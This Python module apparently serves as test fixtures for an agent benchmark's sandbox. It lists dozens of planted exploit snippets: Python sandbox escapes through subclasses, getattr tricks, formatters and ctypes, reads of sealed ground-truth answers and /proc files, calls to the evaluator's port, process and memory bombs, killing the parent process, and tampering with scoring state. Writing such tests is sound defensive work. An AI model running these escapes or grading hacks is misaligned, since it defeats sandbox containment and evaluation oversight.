"""Planted exploits: code that tries to reach answers, other processes or the machine.

Each prints what it got hold of. ``{task_id}``, ``{sealed}``, ``{open}``, ``{evaluator}`` and
``{owner}`` stand for the task's id, the folder with the ground truth, the executors' folder, the
evaluator's port and the process id of the program that runs the episode.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

_TRUTH: Final = "{sealed}/tasks/{task_id}/ground_truth"
_REQUEST: Final = r"""b"POST /evaluate HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n" """
_MODULES: Final = "import typing\nmodules = typing.sys.modules\n"

EXPLOITS: Final[Mapping[str, str]] = {
    "engine's task": "import appworld\n"
    'print("LEAK", appworld.task.Task.load("{task_id}").ground_truth.answer)',
    "engine's ground truth": "from appworld.ground_truth import GroundTruth\n"
    'print("LEAK", GroundTruth.load("{task_id}").private_data)',
    "engine's evaluator": "import appworld\n"
    'print("LEAK", appworld.evaluator.evaluate_task("{task_id}").to_dict())',
    "pathlib": f'import pathlib\nprint("LEAK", pathlib.Path("{_TRUTH}/answer.json").read_text())',
    "alias of open": f'f = open\nprint("LEAK", f("{_TRUTH}/evaluation.py").read())',
    "open of io": f'print("LEAK", __import__("io").open("{_TRUTH}/test_data.json").read())',
    "low-level open": 'p = __import__("posix")\n'
    f'print("LEAK", p.read(p.open("{_TRUTH}/answer.json", 0), 99))',
    "own data folder": "import pathlib\n"
    'p = pathlib.Path("data/tasks/{task_id}/ground_truth/answer.json")\n'
    'print("LEAK", p.read_text())',
    "way up from the open folder": "import pathlib\n"
    'p = pathlib.Path("{open}/../../sealed/data/tasks/{task_id}/ground_truth/answer.json")\n'
    'print("LEAK", p.read_text())',
    "search of the disk": "import os\nw = getattr(os, 'scan' + 'dir')\n"
    'print("LEAK", [e.name for e in w("{sealed}/tasks")][:3])',
    "symbolic link": 'import os\nos.symlink("{sealed}", "answers")\n'
    'print("LEAK", f"{{os.stat(\'answers/datasets/train.txt\')}}")',
    "environment of the owner": "import pathlib\n"
    'print("LEAK", pathlib.Path("/proc/{owner}/environ").read_text()[:9])',
    "memory of the owner": 'f = open\nprint("LEAK", f("/proc/{owner}/mem", "rb").read(1))',
    "folder of the owner": 'import os\nprint("LEAK", os.stat("/proc/{owner}/cwd"))',
    "evaluator's socket": 's = __import__("socket")\n'
    's = s.create_connection(("127.0.0.1", {evaluator}), 3)\n'
    f's.sendall({_REQUEST})\nprint("LEAK", s.recv(99))',
    "evaluator by requests": 'r = __import__("requests").post("http://127.0.0.1:{evaluator}/evaluate")\n'
    'print("LEAK", r.status_code)',
    "packet out": 's = __import__("socket").socket(2, 2)\n'
    's.sendto(b"x", ("127.0.0.1", {evaluator}))\nprint("LEAK sent")',
    "another program": 'p = __import__("posix")\n'
    'pid = p.posix_spawn("/bin/cat", ["/bin/cat", '
    f'"{_TRUTH}/answer.json"], {{{{}}}})\nprint("LEAK" if p.waitpid(pid, 0)[1] == 0 else "no")',
    "ctypes": 'c = __import__("ctypes").CDLL(None)\n'
    f'd = c.open(b"{_TRUTH}/answer.json", 0)\nprint("LEAK" if d >= 0 else "no", d)',
    "signal to the owner": 'c = __import__("ctypes").CDLL(None)\n'
    'print("LEAK" if c.kill({owner}, 0) == 0 else "no")',
    "trace of the owner": 'c = __import__("ctypes").CDLL(None)\n'
    'print("LEAK" if c.ptrace(16, {owner}, 0, 0) == 0 else "no")',
    "subclasses": "c = [x for x in ().__class__.__base__.__subclasses__() if x.__name__ == "
    "'FileIO' or x.__name__ == '_RawIOBase']\n"
    "r = [y for x in c for y in x.__subclasses__()] + c\n"
    f'print("LEAK", r[0]("{_TRUTH}/answer.json").read())',
    "compiled code": f'path = "{_TRUTH}/answer.json"\n'
    'text = "print(open(path).read())"\n'
    'exec(compile(text, "x", "exec"))\nprint("LEAK")',
    "importlib": 'i = __import__("importlib.util").util\n'
    f's = i.spec_from_file_location("e", "{_TRUTH}/evaluation.py")\n'
    'm = i.module_from_spec(s)\ns.loader.exec_module(m)\nprint("LEAK", m.evaluate)',
    "database file": 's = __import__("_sqlite3").connect("{sealed}/base_dbs/venmo.db")\n'
    'print("LEAK", s.execute("select count(*) from users").fetchone())',
    "module behind a harmless one": "import typing\n"
    "world = typing.sys.modules['appworld.serve.environment'].world\n"
    'print("LEAK", world.task.ground_truth.answer)',
    "name from a harmless module": "from uuid import os as system\n"
    f'print("LEAK", system.stat("{_TRUTH}/answer.json"))',
    "attribute by a computed name": "get = getattr\n"
    "base = get(get((), '_' + '_class_' + '_'), '_' + '_base_' + '_')\n"
    "found = [c for c in get(base, '_' + '_subclasses_' + '_')() if 'FileIO' in str(c)]\n"
    f'print("LEAK", found[0]("{_TRUTH}/answer.json").read())',
    "attribute by an operator": "from operator import attrgetter\n"
    "base = attrgetter('_' + '_class_' + '_.' + '_' + '_base_' + '_')(())\n"
    "found = [c for c in attrgetter('_' + '_subclasses_' + '_')(base)() if 'FileIO' in str(c)]\n"
    f'print("LEAK", found[0]("{_TRUTH}/answer.json").read())',
    "attribute by a pattern": "match ():\n    case object(__class__=kind):\n        pass\n"
    "match kind:\n    case object(__base__=base):\n        pass\n"
    "match base:\n    case object(__subclasses__=every):\n        pass\n"
    "found = [c for c in every() if 'FileIO' in str(c)]\n"
    f'print("LEAK", found[0]("{_TRUTH}/answer.json").read())',
    "attribute by all operators": "if True:\n    from operator import *\nu = '_' + '_'\n"
    "base = attrgetter(u + 'class' + u + '.' + u + 'base' + u)(())\n"
    "found = [c for c in attrgetter(u + 'subclasses' + u)(base)() if 'FileIO' in str(c)]\n"
    f'print("LEAK", found[0]("{_TRUTH}/answer.json").read())',
    "attribute by a format": "import string\ngot, u = [], '_' + '_'\n"
    "class Taking(string.Formatter):\n    def format_field(self, value, spec):\n"
    "        got.append(value)\n        return ''\n"
    "Taking().format('{{0.' + u + 'class' + u + '.' + u + 'base' + u + '}}', ())\n"
    "Taking().format('{{0.' + u + 'subclasses' + u + '}}', got[0])\n"
    "found = [c for c in got[1]() if 'FileIO' in str(c)]\n"
    f'print("LEAK", found[0]("{_TRUTH}/answer.json").read())',
    "frame of a generator": "def walk():\n    yield g.gi_frame.f_back.f_back\ng = walk()\n"
    "frame = next(g)\nwhile 'TestTracker' not in frame.f_globals:\n    frame = frame.f_back\n"
    'print("LEAK", frame.f_globals["Task"].load("{task_id}").ground_truth.answer)',
    "tokens of leases": _MODULES + 'print("LEAK" if modules["posix"].read(0, 99) else "no")',
    "connections of the front": _MODULES + "found = []\nfor number in range(64):\n    try:\n"
    "        peer = modules['_socket'].socket(fileno=number).getsockname()\n"
    "        if isinstance(peer, tuple):\n            found.append(peer)\n"
    "    except OSError:\n        pass\n"
    'print("LEAK" if found else "no", found)',
    "log of the executor": _MODULES + "for number in range(64):\n    try:\n"
    "        modules['posix'].ftruncate(number, 0)\n"
    '        print("LEAK", number)\n    except OSError:\n        pass',
    "end of the front": _MODULES + "system = modules['posix']\nfor pid in (system.getppid(), -1):\n"
    '    try:\n        system.kill(pid, 9)\n        print("LEAK", pid)\n'
    "    except OSError:\n        pass",
    "end of the front by a descriptor": _MODULES + "system = modules['posix']\n"
    "r, w = system.pipe()\ncontrol = modules['fcntl'].fcntl\n"
    "own, signal, flags, notify = 8, 10, 4, 8192\n"
    "for command, value in ((own, system.getppid()), (signal, 9), (flags, notify)):\n"
    '    control(r, command, value)\nsystem.write(w, b"x")\nprint("LEAK")',
    "precedence over the owner": _MODULES + "system = modules['posix']\n"
    'system.sched_setaffinity({owner}, {{0}})\nprint("LEAK")',
    "bomb of processes": _MODULES + "system = modules['posix']\nfor _ in range(200):\n"
    "    if system.fork() == 0:\n        while True:\n            pass\n"
    'print("LEAK")',
    "bomb of threads": _MODULES + "threads = modules['_thread']\n"
    "gate = threads.allocate_lock()\ngate.acquire()\nthreads.stack_size(32768)\nbegun = 0\ntry:\n"
    "    for begun in range(5000):\n        threads.start_new_thread(gate.acquire, ())\n"
    'except RuntimeError:\n    print("refused after", begun)\nelse:\n    print("LEAK", begun)',
    "endless memory": _MODULES + "held = []\ntry:\n    for _ in range(80):\n"
    "        held.append(bytearray(100_000_000))\n"
    'except MemoryError:\n    print("refused")\nelse:\n    print("LEAK")',
    "memory that has no owner": _MODULES + "held = [modules['posix'].memfd_create('x')]\n"
    'print("LEAK")',
    "full disk": _MODULES + "system, clock = modules['posix'], modules['time'].monotonic\n"
    "for number in range(100):\n    file = system.open(f'x{{number}}', 66)\n"
    "    system.ftruncate(file, 16_000_000)\n    system.close(file)\n"
    'end = clock() + 15\nwhile clock() < end:\n    pass\nprint("LEAK")',
    "one large file": _MODULES + "system = modules['posix']\n"
    'system.ftruncate(system.open("x", 66), 1 << 40)\nprint("LEAK")',
    "answer that no world gives": _MODULES + "world = modules['appworld.serve.environment'].world\n"
    "world.execute = None",
    "answer without an end": _MODULES + "world = modules['appworld.serve.environment'].world\n"
    "nested = []\nfor _ in range(900):\n    nested = [nested]\n"
    "world.task_completed = lambda: nested",
    "changes that are a program": _MODULES + "world = modules['appworld.serve.environment'].world\n"
    "save, folder = world._save_state, world.output_db_home_path_on_disk\n"
    "endless = 'INSERT INTO alarms WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL '\n"
    "endless = [endless + 'SELECT x + 1 FROM c) SELECT x FROM c', [], False]\n"
    "def evil(path):\n    save(path)\n"
    "    with modules['_io'].FileIO(folder + '/phone.jsonl', 'a') as file:\n"
    "        file.write((json.dumps(endless) + chr(10)).encode())\n"
    "world._save_state = evil",
    "world of the next lease": _MODULES
    + "system = modules['posix']\nsystem.rename('data', 'other')\n"
    "system.mkdir('data')\nsystem.mkdir('kept')\nsystem.mkdir('kept/poison')",
    "administration of the world": 'print("LEAK", apis.admin.show_main_users())',
}
"""By name; each is a whole piece of code."""


def planted(
    name: str, *, task_id: str, sealed: str, opened: str, evaluator: int, owner: int
) -> str:
    """Return an exploit's code with all that an attacker might know filled in."""
    code = EXPLOITS[name].format(
        task_id=task_id, sealed=sealed, open=opened, evaluator=evaluator, owner=owner
    )
    # A traceback quotes the line that failed: only what is printed shall read LEAK.
    return code.replace("LEAK", 'LE" "AK')
